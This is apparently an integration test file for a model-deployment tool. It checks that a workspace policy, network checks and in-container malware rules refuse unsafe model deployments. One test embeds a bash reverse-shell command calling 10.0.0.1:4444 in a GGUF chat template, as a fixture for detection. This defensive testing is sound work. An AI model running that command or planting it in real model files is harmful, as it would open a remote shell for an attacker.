import { strict as assert } from 'node:assert';
import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { connectDocker, type Docker } from '../../../src/core/deploy/engine';
import { listDeployments } from '../../../src/core/deploy/deployments';
import { deployStaging } from '../../../src/core/deploy/staging';
import { runCanary } from '../../../src/core/deploy/canary';
import { removeModelDeployments, rollback } from '../../../src/core/deploy/lifecycle';
import { LABEL } from '../../../src/core/deploy/labels';
import { EDGE_NETWORK, internalNetworkName } from '../../../src/core/deploy/names';
import { ensureInternalNetwork } from '../../../src/core/deploy/network';
import { addModel } from '../../../src/core/govern/admission';
import { initRegistry, setAlias } from '../../../src/core/govern/ops';
import { RefusedError } from '../../../src/core/util/errors';
import { readAudit } from '../../../src/core/audit/log';
import { CHATML_TEMPLATE, writeTinyLlama } from '../../fixtures/gguf/tiny-llama';
import { makeRepo, type TestRepo } from '../registry/repo';
import { requireDocker } from './docker-gate';

/**
 * The workspace policy on the REAL Docker engine: every deployment is checked against
 * .sovereign/policy.yaml before anything is built or started, the checked policy ships into the container,
 * and the runtime there applies it. Networks that carry our names but are not ours are refused.
 */
const MODELS = ['pgood', 'pnet', 'pnet2', 'pbig'];

/** Registered under a permissive policy, then the workspace tightens it (licence, size, signed production). */
const STRICT_POLICY = [
  'version: 1',
  'licenses:',
  '  allowed: [mit]',
  'limits:',
  '  max_file_size: 500KB',
  'signature:',
  '  required_for_aliases: [production]',
  '',
].join('\n');

async function engineObjects(docker: Docker, model: string): Promise<{ containers: string[]; networks: string[] }> {
  const containers = (await docker.listContainers({ all: true, filters: { label: [`${LABEL.model}=${model}`] } })).map((c) => c.Names[0]);
  const networks = (await docker.listNetworks({ filters: { name: [internalNetworkName(model)] } })).map((n) => n.Name).filter((n) => n === internalNetworkName(model));
  return { containers, networks };
}

async function execOut(docker: Docker, id: string, cmd: string[]): Promise<string> {
  const exec = await docker.getContainer(id).exec({ Cmd: cmd, AttachStdout: true, AttachStderr: true });
  const stream = await exec.start({});
  return new Promise<string>((resolve) => {
    let text = '';
    stream.on('data', (b: Buffer) => (text += b.toString('latin1')));
    stream.on('end', () => resolve(text));
  });
}

async function removeNetwork(docker: Docker, name: string): Promise<void> {
  await docker.getNetwork(name).remove().catch(() => undefined);
}

const refusedBy = (pattern: RegExp, hint?: RegExp) => (err: Error): boolean => {
  assert.ok(err instanceof RefusedError, `a RefusedError (exit 1), got ${err.name}: ${err.message}`);
  assert.match(err.message, pattern);
  if (hint) assert.match(err.hint ?? '', hint);
  return true;
};

describe('deploy: the workspace policy and the networks (real Docker engine)', function () {
  this.timeout(600_000);
  let repo: TestRepo;
  let docker: Docker;
  let bigFile: string;

  before(async function () {
    await requireDocker(this, 'test/core/deploy/deploy-policy.test.ts');
    docker = await connectDocker();
    for (const m of MODELS) await removeModelDeployments({ model: m }).catch(() => undefined);
    for (const m of MODELS) await removeNetwork(docker, internalNetworkName(m));
    repo = await makeRepo();
    await initRegistry(repo.root);
    await writeFile(join(repo.root, '.sovereign/policy.yaml'), 'version: 1\n');
    // F16 (~330 KB, under the 500KB limit) for what deploys; the F32 file (~620 KB) is over it.
    await writeTinyLlama(join(repo.base, 'good.gguf'), { name: 'policy-good', f16: true });
    await writeTinyLlama(join(repo.base, 'other.gguf'), { name: 'policy-other', f16: true });
    await writeTinyLlama(join(repo.base, 'third.gguf'), { name: 'policy-third', f16: true });
    bigFile = join(repo.base, 'big.gguf');
    await writeTinyLlama(bigFile, { name: 'policy-big' });
    await addModel(repo.root, { input: join(repo.base, 'good.gguf'), name: 'pgood', version: '1.0.0', license: 'mit' });
    await addModel(repo.root, { input: join(repo.base, 'other.gguf'), name: 'pgood', version: '2.0.0', license: 'proprietary' });
    await addModel(repo.root, { input: join(repo.base, 'third.gguf'), name: 'pgood', version: '3.0.0', license: 'mit' });
    await setAlias(repo.root, 'pgood@3.0.0', 'production');
    await addModel(repo.root, { input: join(repo.base, 'good.gguf'), name: 'pnet', version: '1.0.0', license: 'mit' });
    await addModel(repo.root, { input: join(repo.base, 'good.gguf'), name: 'pnet2', version: '1.0.0', license: 'mit' });
    await addModel(repo.root, { input: bigFile, name: 'pbig', version: '1.0.0', license: 'mit' });
    await writeFile(join(repo.root, '.sovereign/policy.yaml'), STRICT_POLICY);
  });

  after(async function () {
    if (!docker) return;
    for (const m of MODELS) await removeModelDeployments({ model: m }).catch(() => undefined);
    for (const m of MODELS) await removeNetwork(docker, internalNetworkName(m));
    await repo?.cleanup();
  });

  it('deploy staging refuses a version whose licence the workspace policy does not allow: exit 1, the reason, nothing created', async () => {
    await assert.rejects(deployStaging({ root: repo.root, ref: 'pgood@2.0.0', log: () => undefined }), refusedBy(/refused by the workspace policy[\s\S]*\[license\] license "proprietary" is not on the allowlist \(mit\)/));
    assert.deepEqual(await engineObjects(docker, 'pgood'), { containers: [], networks: [] });
  });

  it('deploy staging refuses an unsigned version behind an alias the policy reserves for signed versions', async () => {
    await assert.rejects(deployStaging({ root: repo.root, ref: 'pgood@production', log: () => undefined }), refusedBy(/\[signature-required\] not signed, but alias production requires a trusted signature/));
    assert.deepEqual(await engineObjects(docker, 'pgood'), { containers: [], networks: [] });
  });

  it('ships the checked policy into the container, and the runtime there applies it: a model the shipped policy refuses does not load', async () => {
    const r = await deployStaging({ root: repo.root, ref: 'pgood@1.0.0', log: () => undefined });
    const [d] = await listDeployments({ docker, model: 'pgood' });
    const info = (await docker.getContainer(d.containerId).inspect()) as unknown as { Config: { Cmd: string[]; Labels: Record<string, string> } };
    const policyText = await readFile(join(repo.root, '.sovereign/policy.yaml'), 'utf8');
    const cmd = info.Config.Cmd;
    assert.equal(cmd[cmd.indexOf('--policy') + 1], '/policy/policy.yaml', cmd.join(' '));
    assert.equal(info.Config.Labels[LABEL.policySha256], createHash('sha256').update(policyText).digest('hex'));
    assert.equal(r.policySha256, info.Config.Labels[LABEL.policySha256]);
    // The very bytes that were checked are in the running container.
    const inside = await execOut(docker, d.containerId, ['node', '-e', "process.stdout.write(require('crypto').createHash('sha256').update(require('fs').readFileSync('/policy/policy.yaml')).digest('hex'))"]);
    assert.match(inside, new RegExp(createHash('sha256').update(policyText).digest('hex')));
    assert.equal((await fetch(`${r.url}/health`)).status, 200);

    // The same image and command with a model the shipped policy refuses (over its 500KB limit) mounted in
    // its place: the runtime in the container refuses it before loading.
    const { status, logs } = await runtimeWithModel(d.image, bigFile);
    assert.equal(status, 1, logs);
    assert.match(logs, /refused to load \/models\/model\.gguf: policy rule max-file-size: .* above the limit of 500KB/);
  });

  /**
   * The deployment's image and runtime command (its shipped policy, the isolation) with `model` mounted in place of
   * the registered model: the exit status and the logs of the runtime.
   */
  async function runtimeWithModel(image: string, model: string): Promise<{ status: number; logs: string }> {
    const c = await docker.createContainer({
      Image: image,
      Cmd: ['--model', '/models/model.gguf', '--policy', '/policy/policy.yaml', '--host', '0.0.0.0', '--port', '8080', '--threads', '1'],
      User: '10001:10001',
      Env: ['HOME=/tmp', 'NODE_LLAMA_CPP_SKIP_DOWNLOAD=true'],
      HostConfig: { NetworkMode: 'none', ReadonlyRootfs: true, Tmpfs: { '/tmp': 'rw,size=64m' }, Binds: [`${model}:/models/model.gguf:ro`] },
    } as never);
    try {
      await c.start();
      const { StatusCode } = (await c.wait()) as { StatusCode: number };
      return { status: StatusCode, logs: ((await c.logs({ stdout: true, stderr: true })) as Buffer).toString('latin1') };
    } finally {
      await c.remove({ force: true }).catch(() => undefined);
    }
  }

  it('the runtime in the container runs the malware rules on load: a GGUF with a reverse shell in its chat template, mounted in place of the registered model (registration bypassed), is refused', async () => {
    let [d] = await listDeployments({ docker, model: 'pgood' });
    if (!d) {
      await deployStaging({ root: repo.root, ref: 'pgood@1.0.0', log: () => undefined });
      [d] = await listDeployments({ docker, model: 'pgood' });
    }
    // Structurally valid (the format reader passes it) and under the policy's size limit: only the rules refuse it.
    const evil = join(repo.base, 'revshell.gguf');
    await writeTinyLlama(evil, { name: 'policy-revshell', f16: true, chatTemplate: `${CHATML_TEMPLATE}{% if false %}{{ 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }}{% endif %}` });
    const { status, logs } = await runtimeWithModel(d.image, evil);
    assert.equal(status, 1, logs);
    assert.match(logs, /refused to load \/models\/model\.gguf before any native code saw it: rule yara\/reverse_shell \(critical\)/);
    assert.doesNotMatch(logs, /yara\/unavailable/, 'the engine and the default pack are in the image');
  });

  it('an active exception waives a rule on the host and in the container (its use audited); without it the version is refused', async () => {
    await assert.rejects(deployStaging({ root: repo.root, ref: 'pbig@1.0.0', log: () => undefined }), refusedBy(/\[max-file-size\]/));
    const exception = ['exceptions:', '  - model: pbig@1.0.0', '    rule: max-file-size', '    justification: "test: the F32 file until the F16 one is validated"', '    expires: 2999-12-31', ''].join('\n');
    await writeFile(join(repo.root, '.sovereign/policy.yaml'), STRICT_POLICY + exception);
    try {
      // The container's runtime sees the same exception (--policy-model): it loads the model and serves.
      const r = await deployStaging({ root: repo.root, ref: 'pbig@1.0.0', log: () => undefined });
      assert.equal((await fetch(`${r.url}/health`)).status, 200);
      const used = (await readAudit(repo.root)).filter((e) => e.action === 'policy-exception' && e.subject === 'pbig@1.0.0');
      assert.deepEqual(used.map((e) => [(e.details as { rule: string }).rule, (e.details as { use: string }).use]), [['max-file-size', 'deploy']]);
    } finally {
      await writeFile(join(repo.root, '.sovereign/policy.yaml'), STRICT_POLICY);
      await removeModelDeployments({ model: 'pbig' }).catch(() => undefined);
    }
  });

  it('deploy canary refuses a version the policy refuses before starting anything; the stable version keeps serving', async () => {
    const before = await listDeployments({ docker, model: 'pgood' });
    await assert.rejects(runCanary({ root: repo.root, ref: 'pgood@2.0.0', thresholds: { maxLatencyRatio: 20 }, log: () => undefined }), refusedBy(/canary of pgood@2\.0\.0 refused by the workspace policy[\s\S]*\[license\]/));
    const after = await listDeployments({ docker, model: 'pgood' });
    assert.deepEqual(after.map((d) => [d.containerId, d.role, d.running]), before.map((d) => [d.containerId, d.role, d.running]));
    assert.ok(!after.some((d) => d.role === 'canary'));
  });

  it('rollback re-checks the policy: a previous version the policy now refuses does not take traffic again', async () => {
    // 3.0.0 is deployed over 1.0.0 (under the policy without the alias rule), then the policy
    // drops the licence of 1.0.0: rolling back to it is refused, 3.0.0 keeps serving.
    await writeFile(join(repo.root, '.sovereign/policy.yaml'), STRICT_POLICY.replace('signature:\n  required_for_aliases: [production]\n', ''));
    try {
      await deployStaging({ root: repo.root, ref: 'pgood@3.0.0', log: () => undefined });
      await writeFile(join(repo.root, '.sovereign/policy.yaml'), STRICT_POLICY.replace('[mit]', '[mit-0]').replace('signature:\n  required_for_aliases: [production]\n', ''));
      await assert.rejects(rollback({ root: repo.root, model: 'pgood' }), refusedBy(/rollback of pgood@1\.0\.0 refused by the workspace policy[\s\S]*\[license\]/));
      const stable = (await listDeployments({ docker, model: 'pgood' })).find((d) => d.role === 'stable');
      assert.equal(stable?.version, '3.0.0');
    } finally {
      await writeFile(join(repo.root, '.sovereign/policy.yaml'), STRICT_POLICY);
    }
  });

  it('a pre-existing network with the expected name that is not internal is refused, and left alone', async () => {
    const name = internalNetworkName('pnet');
    // Even with our labels: what matters is that it has a route out.
    await docker.createNetwork({ Name: name, Driver: 'bridge', Internal: false, Labels: { [LABEL.managed]: 'true', [LABEL.kind]: 'internal-network', [LABEL.model]: 'pnet' } });
    try {
      await assert.rejects(
        deployStaging({ root: repo.root, ref: 'pnet@1.0.0', log: () => undefined }),
        refusedBy(new RegExp(`a Docker network named ${name} exists but cannot be used: it is not internal`), new RegExp(`docker network rm ${name}`)),
      );
      assert.deepEqual(await engineObjects(docker, 'pnet'), { containers: [], networks: [name] }, 'nothing started; the network is not ours to remove');
      // Internal, but not created by Sovereign (no labels): refused too.
      await removeNetwork(docker, name);
      await docker.createNetwork({ Name: name, Driver: 'bridge', Internal: true });
      await assert.rejects(ensureInternalNetwork(docker, 'pnet'), refusedBy(/not created by Sovereign/));
      // Our edge network name taken by an internal network would break publishing: the same check applies.
      const edge = (await docker.listNetworks({ filters: { name: [EDGE_NETWORK] } })).find((n) => n.Name === EDGE_NETWORK);
      if (edge) assert.equal((edge as { Internal?: boolean }).Internal, false);
    } finally {
      await removeNetwork(docker, name);
    }
  });

  it('a pre-existing network with the right properties and labels is used', async () => {
    const name = internalNetworkName('pnet2');
    await docker.createNetwork({
      Name: name,
      Driver: 'bridge',
      Internal: true,
      Labels: { [LABEL.managed]: 'true', [LABEL.kind]: 'internal-network', [LABEL.model]: 'pnet2' },
      Options: { 'com.docker.network.bridge.enable_ip_masquerade': 'false' },
    });
    const id = ((await docker.getNetwork(name).inspect()) as { Id: string }).Id;
    const r = await deployStaging({ root: repo.root, ref: 'pnet2@1.0.0', log: () => undefined });
    assert.equal((await fetch(`${r.url}/health`)).status, 200);
    const [d] = await listDeployments({ docker, model: 'pnet2' });
    const info = (await docker.getContainer(d.containerId).inspect()) as { NetworkSettings: { Networks: Record<string, { NetworkID: string }> } };
    assert.equal(info.NetworkSettings.Networks[name]?.NetworkID, id, 'joined the pre-made network');
    await removeModelDeployments({ model: 'pnet2' });
    assert.deepEqual(await engineObjects(docker, 'pnet2'), { containers: [], networks: [] });
  });
});
